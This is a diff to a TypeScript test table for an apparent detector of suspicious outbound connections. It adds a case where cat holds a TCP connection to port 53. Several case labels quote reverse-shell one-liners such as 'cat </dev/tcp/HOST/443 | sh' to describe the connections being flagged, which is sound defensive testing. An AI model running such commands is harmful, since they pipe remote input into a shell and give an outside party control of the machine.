@@ -108,6 +108,7 @@ const cases: [string, Socket, Verdict, string[], string[], RegExp?][] = [
   ["cat holding a connection to 443 (cat </dev/tcp/HOST/443 | sh)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"], tty: null }), "203.0.113.7", 443), "suspicious", ["handed-connection"], ["usual-outbound"],
     /cat \(pid 4242, \/usr\/bin\/cat\) never opens a network connection itself, yet holds one to a server on the Internet \(port 443\)/],
   ["sleep holding a connection to 8080 (exec 3<>/dev/tcp/HOST/8080; sleep)", outbound(proc("sleep", "/usr/bin/sleep", { ...alice, cmdline: ["sleep", "600"] }), "203.0.113.7", 8080), "suspicious", ["handed-connection"], []],
+  ["cat holding a TCP connection to a public DNS port (cat </dev/tcp/HOST/53 | sh): handed-connection, not only direct DNS", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "203.0.113.7", 53), "suspicious", ["handed-connection"], ["direct-dns"]],
   ["cat holding a connection to a loopback health check (benign nearest)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "127.0.0.1", 8080), "unknown", [], ["handed-connection"]],
   ["a project's tool from node_modules/.bin under /srv to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "/srv/app/node_modules/.bin/next", "start"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
 ];
